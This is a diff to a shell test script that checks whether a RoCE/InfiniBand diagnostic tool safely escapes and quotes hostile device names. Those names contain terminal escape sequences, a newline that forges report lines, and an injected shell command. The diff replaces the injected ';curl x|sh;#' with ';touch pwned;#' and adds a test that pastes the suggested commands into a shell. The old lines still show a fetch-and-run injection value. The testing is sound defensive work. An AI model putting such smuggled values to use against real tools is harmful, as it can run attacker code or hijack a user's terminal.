@@ -3,7 +3,7 @@
 # scenario where an HCA's directory name carries a terminal title change
 # (ESC ] 0;pwned BEL), a clear screen (ESC [2J), a raw C1 CSI (0x9b, so the
 # name is not valid UTF-8), a newline that forges "Findings: none" and
-# ";curl x|sh;#"; its netdev is named "ens34;curl x|sh;#"; an hca_type and
+# ";touch pwned;#"; its netdev is named "ens34;touch pwned;#"; an hca_type and
 # a GID's netdev hold a raw 0x9b; the capture's meta.json names the host with
 # ESC, U+009B and a newline. Then `report links`, `report links --json`,
 # `report all`, `wizard --batch`, `analyze-log` on a log full of escapes and
@@ -40,8 +40,8 @@ trap 'exit 1' INT TERM
 
 ESC=$(printf '\033') BEL=$(printf '\007') CSI=$(printf '\233') NL='
 '
-HCA="mlx5_1${ESC}]0;pwned${BEL}${ESC}[2J${CSI}H${NL}Findings: none${NL};curl x|sh;#"
-NETDEV='ens34;curl x|sh;#'
+HCA="mlx5_1${ESC}]0;pwned${BEL}${ESC}[2J${CSI}H${NL}Findings: none${NL};touch pwned;#"
+NETDEV='ens34;touch pwned;#'
 R=$T/root
 cp -a "$SRC" "$R" || { notok "copy roce-faults"; exit 0; }
 
@@ -104,9 +104,9 @@ clean_ok() {
 	fi
 }
 forged_ok() {
-	if grep -aEq '^[[:space:]]*(Findings: none|;curl x)' "$2"; then
+	if grep -aEq '^[[:space:]]*(Findings: none|;touch pwned)' "$2"; then
 		notok "$1: no line forged by a newline in a name" \
-			"$(grep -aEn '^[[:space:]]*(Findings: none|;curl x)' "$2" | cat -v)"
+			"$(grep -aEn '^[[:space:]]*(Findings: none|;touch pwned)' "$2" | cat -v)"
 	else
 		ok "$1: no line forged by a newline in a name"
 	fi
@@ -135,9 +135,9 @@ print("ok" if eval(sys.argv[2]) else "not as expected: " + sys.argv[2])' "$2" "$
 	fi
 }
 
-SHOWN='mlx5_1\x1b]0;pwned\x07\x1b[2J\x9bH\nFindings: none\n;curl x|sh;#'
-QUOTED="'mlx5_1\\x1b]0;pwned\\x07\\x1b[2J\\x9bH\\nFindings: none\\n;curl x|sh;#'"
-KEPT='mlx5_1\u001b]0;pwned\u0007\u001b[2J\\x9bH\nFindings: none\n;curl x|sh;#'
+SHOWN='mlx5_1\x1b]0;pwned\x07\x1b[2J\x9bH\nFindings: none\n;touch pwned;#'
+QUOTED="'mlx5_1\\x1b]0;pwned\\x07\\x1b[2J\\x9bH\\nFindings: none\\n;touch pwned;#'"
+KEPT='mlx5_1\u001b]0;pwned\u0007\u001b[2J\\x9bH\nFindings: none\n;touch pwned;#'
 
 # report links (text): the names shown escaped, the commands quoted.
 "$BIN" --root "$R" report links >"$T/links.txt" 2>&1
@@ -149,18 +149,29 @@ else
 	notok "report links: the HCA name is shown escaped, in the table and its heading" \
 		"$(grep -an 'mlx5_1' "$T/links.txt" | head -5 | cat -v)"
 fi
-if grep -qF "next: ibstat $QUOTED 1; ip link show 'ens34;curl x|sh;#'; ethtool 'ens34;curl x|sh;#' |" "$T/links.txt"; then
+if grep -qF "next: ibstat $QUOTED 1; ip link show 'ens34;touch pwned;#'; ethtool 'ens34;touch pwned;#' |" "$T/links.txt"; then
 	ok "report links: next: single-quotes the HCA and its netdev"
 else
 	notok "report links: next: single-quotes the HCA and its netdev" \
 		"$(grep -an 'ibstat' "$T/links.txt" | head -3 | cat -v)"
 fi
-# The commands, their single-quoted words taken out: no "curl" is left.
-bad=$(grep -aE 'ibstat|ip link|ethtool' "$T/links.txt" | sed "s/'[^']*'//g" | grep -aF 'curl')
+# The commands, their single-quoted words taken out: no "touch" is left.
+bad=$(grep -aE 'ibstat|ip link|ethtool' "$T/links.txt" | sed "s/'[^']*'//g" | grep -aF 'touch')
 if [ -z "$bad" ]; then
-	ok "report links: no command carries ;curl x|sh unquoted"
+	ok "report links: no command carries ;touch pwned unquoted"
 else
-	notok "report links: no command carries ;curl x|sh unquoted" "$(printf '%s\n' "$bad" | cat -v)"
+	notok "report links: no command carries ;touch pwned unquoted" "$(printf '%s\n' "$bad" | cat -v)"
+fi
+# The suggested commands, pasted into a shell as a user would (read-only:
+# ibstat, ip link show, ethtool; a missing one only fails): the name must
+# not run its "touch pwned".
+mkdir "$T/paste"
+grep -a 'next: ibstat' "$T/links.txt" | sed 's/^[[:space:]]*next: //' > "$T/paste.sh"
+(cd "$T/paste" && PATH=/usr/sbin:/usr/bin:/sbin:/bin timeout 20 sh "$T/paste.sh" > /dev/null 2>&1)
+if [ -s "$T/paste.sh" ] && [ ! -e "$T/paste/pwned" ]; then
+	ok "report links: pasting next: into a shell runs no part of a name"
+else
+	notok "report links: pasting next: into a shell runs no part of a name" "$(cat -v "$T/paste.sh")"
 fi
 if grep -q '^mlx5_0: N/A (mlx5_core)' "$T/links.txt" &&
    grep -q 'cannot read /sys/class/infiniband/mlx5_0/hca_type: not a text attribute' "$T/links.txt" &&
@@ -246,7 +257,7 @@ cat "$T"/tui-*.txt > "$T/tui-all.txt" 2>/dev/null
 if [ $rc -ne 0 ] || [ ! -s "$T/tui-links-end.txt" ]; then
 	notok "TUI: the HCA name drawn escaped, no forged line (rc $rc)" "$(cat "$T/tui.out")"
 elif ! grep -qF 'mlx5_1\x1b]0;pwned\x07\x1b[2J\x9bH' "$T/tui-all.txt" || ! why=$(clean "$T/tui-all.txt") ||
-     grep -aEq '^[[:space:]]*(Findings: none|;curl x)' "$T/tui-all.txt"; then
+     grep -aEq '^[[:space:]]*(Findings: none|;touch pwned)' "$T/tui-all.txt"; then
 	notok "TUI: the HCA name drawn escaped, no forged line" "${why:-}" "$(cat "$T/tui-links-end.txt")"
 else
 	ok "TUI: the HCA name drawn escaped, no forged line"
